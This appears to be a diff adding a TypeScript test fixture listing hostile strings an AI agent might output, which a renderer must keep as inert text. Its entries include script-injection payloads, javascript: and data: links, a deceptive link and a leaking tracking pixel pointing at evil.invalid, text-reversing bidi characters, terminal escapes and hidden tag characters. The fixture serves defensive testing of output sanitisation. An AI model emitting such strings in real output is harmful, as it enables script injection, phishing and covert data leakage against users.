@@ -1,0 +1,22 @@
+/** Texts that somebody might have an agent say. All of them must stay text. */
+export const hostile: readonly { name: string; text: string }[] = [
+  { name: "script", text: '<script>document.title = "owned"</script>' },
+  { name: "image with a handler", text: '<img src=x onerror="document.title=1">' },
+  { name: "drawing", text: '<svg onload="document.title=1"><a href="javascript:1">x</a></svg>' },
+  { name: "frame", text: '<iframe src="https://example.invalid"></iframe>' },
+  { name: "style", text: "<style>body{display:none}</style>" },
+  { name: "link to a script", text: "[click me](javascript:document.title=1)" },
+  { name: "link to data", text: "[report](data:text/html;base64,PHNjcmlwdD4x)" },
+  { name: "link that says another address", text: "[https://minutebook.dev](https://evil.invalid/login)" },
+  { name: "image that reports its reading", text: "![pixel](https://evil.invalid/pixel.png?leak=1)" },
+  { name: "reference", text: "See [this][1].\n\n[1]: javascript:alert(1)" },
+  { name: "automatic link", text: "<https://evil.invalid> and <mailto:a@evil.invalid>" },
+  { name: "turned text", text: "approve \u202Etnirp esaelp\u202C now \u2067abc\u2069" },
+  { name: "terminal controls", text: "\u001b[2J\u001b[31mred\u001b[0m \u0007bell \u009b1m" },
+  { name: "hidden tag characters", text: "plain\u{e0069}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065} text" },
+  { name: "a word without an end", text: "A".repeat(600) },
+  { name: "marks upon marks", text: "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309a\u0300\u0301\u0302\u0303\u0304" },
+  { name: "quotes within quotes", text: `${"> ".repeat(60)}deep` },
+  { name: "entities", text: "&lt;b&gt;bold?&lt;/b&gt; &#60;script&#62;" },
+  { name: "table and heading", text: "# WARNING\n\n| a | b |\n|---|---|\n| <b>1</b> | 2 |" },
+];
